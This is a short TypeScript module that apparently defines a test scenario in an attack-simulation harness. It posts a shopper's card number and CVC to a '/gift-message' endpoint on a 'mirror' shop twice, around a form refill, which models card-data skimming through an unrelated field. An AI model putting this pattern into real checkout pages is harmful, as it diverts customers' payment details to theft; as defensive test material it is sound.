import type { Strategy } from '#scripts/attack/strategy';

/** The purchase is filled again after the first card was kept somewhere. */
export const twoFills: Strategy = {
  name: 'two fills of one purchase',
  channel: 'this tab',
  shops: ['mirror'],
  async run({ page, fillAgain, shell }) {
    const send =
      "return said(await post('/gift-message', form({ card_number: number, card_cvc: code }), json))";
    await page(send);
    await fillAgain();
    await page(send);
    await shell('/gift-message', { accept: 'application/json' });
  },
};
